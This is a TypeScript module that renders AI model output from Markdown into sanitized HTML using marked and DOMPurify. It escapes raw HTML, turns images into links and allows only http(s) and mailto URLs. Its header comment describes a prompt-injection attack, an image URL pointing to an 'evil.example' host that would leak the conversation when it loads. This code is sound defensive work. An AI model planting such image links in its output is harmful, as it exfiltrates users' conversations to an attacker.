/**
 * Model output -> safe HTML.
 *
 * 1. Markdown is converted with marked. Raw HTML in the source is NOT passed through: it is
 *    escaped and shown as text. Images become plain links (nothing is fetched automatically).
 * 2. The resulting HTML is then sanitized with DOMPurify (after conversion, so nothing marked
 *    emits can slip through): a small allow-list of tags and attributes, no <img>, no event
 *    handlers, no style, and only absolute http(s) and mailto URLs. Every link opens in a new
 *    tab with rel="noopener noreferrer".
 *
 * No image is ever loaded from model output: an image a prompt injection plants
 * (`![](https://evil.example/?q=<the conversation>)`) would leak the conversation the moment
 * it loaded. It is shown as a link to its URL instead, which the user may open in a new tab
 * (no referrer). A click-to-load in the page is not offered: the page's CSP allows images
 * from the app itself, data: and blob: only (frontend/server/app.ts, docs/security.md).
 */
import DOMPurify, { type Config, type DOMPurify as Purifier } from 'dompurify';
import { Marked, type Tokens } from 'marked';

function escapeHtml(text: string): string {
  return text
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&#39;');
}

const marked = new Marked({
  gfm: true,
  breaks: false,
  async: false,
  renderer: {
    html(token: Tokens.HTML | Tokens.Tag): string {
      const text = escapeHtml(token.text);
      return token.block ? `<p>${text}</p>\n` : text;
    },
    text(token: Tokens.Text | Tokens.Escape): string | false {
      // After an inline <pre>, <script>, <style> or <textarea>, marked takes the text up to
      // its closing tag for raw HTML and leaves it unescaped: here raw HTML is text.
      if (token.type === 'text' && token.escaped === true && !token.tokens) {
        return escapeHtml(token.text);
      }
      return false; // marked's own rendering
    },
    image(token: Tokens.Image): string {
      const label = token.text.trim() === '' ? token.href : token.text;
      // The title shows where the link goes when the label is the image's description.
      const title = ` title="${escapeHtml(token.title || token.href)}"`;
      return `<a href="${escapeHtml(token.href)}"${title} class="md-image-link">${escapeHtml(label)}</a>`;
    },
  },
});

const ALLOWED_TAGS = [
  'a',
  'b',
  'blockquote',
  'br',
  'code',
  'del',
  'em',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'hr',
  'i',
  'input',
  'li',
  'ol',
  'p',
  'pre',
  's',
  'strong',
  'sub',
  'sup',
  'table',
  'tbody',
  'td',
  'tfoot',
  'th',
  'thead',
  'tr',
  'ul',
];

const ALLOWED_ATTR = ['href', 'title', 'class', 'start', 'align', 'type', 'checked', 'disabled'];

/**
 * DOMPurify's own rule, which it applies to every attribute that is not "URI-safe" (so it must
 * pass plain values such as type="checkbox"): a scheme must be http(s) or mailto. Links are
 * narrowed further in the hook below.
 */
const ALLOWED_URI = /^(?:(?:https?|mailto):|[^a-z]|[a-z+.-]+(?:[^a-z+.\-:]|$))/i;

/**
 * The links kept: absolute http(s) and mailto URLs only. Every other href is removed and the
 * link stays as text: javascript:, data:, vbscript:, file:, blob: and any other scheme, and
 * relative or protocol-relative URLs too (model output has no base to be relative to, and
 * "/api/..." or "//host" would only point somewhere the model should not send the user).
 * Tested after taking out the whitespace and control characters browsers ignore in URLs.
 */
const LINK_URL = /^(?:https?:\/\/|mailto:)/i;
// eslint-disable-next-line no-control-regex
const URL_IGNORED = /[\u0000-\u0020\u00A0\u1680\u180E\u2000-\u2029\u205F\u3000]/g;

const PURIFY_CONFIG: Config = {
  ALLOWED_TAGS,
  ALLOWED_ATTR,
  ALLOWED_URI_REGEXP: ALLOWED_URI,
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
  FORBID_TAGS: ['img', 'svg', 'math', 'style', 'script', 'iframe', 'form'],
  FORBID_ATTR: ['style', 'src', 'srcset'],
};

let purifier: Purifier | undefined;

function getPurifier(): Purifier {
  if (purifier) return purifier;
  const instance = DOMPurify(window);
  instance.addHook('afterSanitizeAttributes', (node) => {
    if (node.nodeName === 'A') {
      const href = node.getAttribute('href');
      if (href !== null && !LINK_URL.test(href.replace(URL_IGNORED, ''))) {
        node.removeAttribute('href');
      }
      if (node.hasAttribute('href')) {
        node.setAttribute('target', '_blank');
        node.setAttribute('rel', 'noopener noreferrer');
      }
    } else if (node.nodeName === 'INPUT') {
      // GFM task-list checkboxes only, and read-only.
      if (node.getAttribute('type') !== 'checkbox') {
        node.remove();
        return;
      }
      node.setAttribute('disabled', '');
    }
    if (node.hasAttribute('class')) {
      // Keep only marked's own classes (code languages, image links).
      const kept = (node.getAttribute('class') ?? '')
        .split(/\s+/)
        .filter((c) => /^(language-[\w+#.-]+|md-image-link)$/.test(c));
      if (kept.length > 0) node.setAttribute('class', kept.join(' '));
      else node.removeAttribute('class');
    }
  });
  purifier = instance;
  return instance;
}

/** Sanitizes an HTML string with the allow-list used for model output. */
export function sanitizeHtml(html: string): string {
  return getPurifier().sanitize(html, PURIFY_CONFIG);
}

/** Converts model output (Markdown) to HTML that is safe to put in the page. */
export function renderMarkdown(source: string): string {
  const html = marked.parse(source, { async: false });
  return sanitizeHtml(html);
}
